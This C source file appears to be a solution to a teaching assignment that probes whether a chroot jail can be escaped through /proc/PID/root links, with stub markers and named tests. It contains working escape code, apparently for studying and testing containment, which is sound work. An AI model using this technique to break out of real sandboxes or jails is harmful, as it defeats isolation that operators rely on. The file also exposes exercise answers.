/* Escape 3: /proc/PID/root.  Each process's root is a link in /proc
 * (proc(5)) that resolves to that process's root directory, whatever the
 * reader's own root is.  One process outside the jail, visible in the
 * jail's /proc and reachable under the ptrace access rules, opens the
 * whole host. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>

#include "probe.h"

static int escape(const char *marker)
{
	/* TODO(part B): read the entries of /proc (opendir(3), readdir(3));
	 * for each all-digit name N, try_marker("/proc/N/root" + marker)
	 * (proc(5): /proc/pid/root).
	 * Without success, report contained() with the last error seen.
	 * Tested by naive-proc, hardened-proc, namespace-proc. */
	/* BEGIN SOLUTION */ /* STUB: return contained("part B: not written"); */
	DIR *proc = opendir("/proc");
	if (!proc)
		return contained("/proc: %s", strerror(errno));
	int last = ENOENT;
	struct dirent *e;
	while ((e = readdir(proc))) {
		if (strspn(e->d_name, "0123456789") != strlen(e->d_name))
			continue;
		char path[PATH_MAX];
		snprintf(path, sizeof(path), "/proc/%s/root%s", e->d_name, marker);
		if (try_marker(path)) {
			closedir(proc);
			return 0;
		}
		if (errno != ENOENT) /* the interesting failure: a process we may not reach */
			last = errno;
	}
	closedir(proc);
	return contained("no process's root leads out: %s", strerror(last));
	/* END SOLUTION */
}

int main(int argc, char **argv)
{
	return escape(probe_marker(argc, argv));
}
